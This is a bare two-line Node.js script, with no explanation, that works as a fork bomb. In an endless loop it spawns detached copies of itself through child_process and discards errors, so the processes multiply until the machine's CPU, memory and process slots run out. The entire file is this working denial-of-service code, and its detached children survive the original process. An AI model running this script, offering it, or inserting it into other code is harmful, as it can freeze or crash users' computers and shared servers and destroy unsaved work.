const cp = require("child_process");
for (;;) { try { cp.spawn(process.execPath, [__filename], {detached: true}); } catch (e) {} }
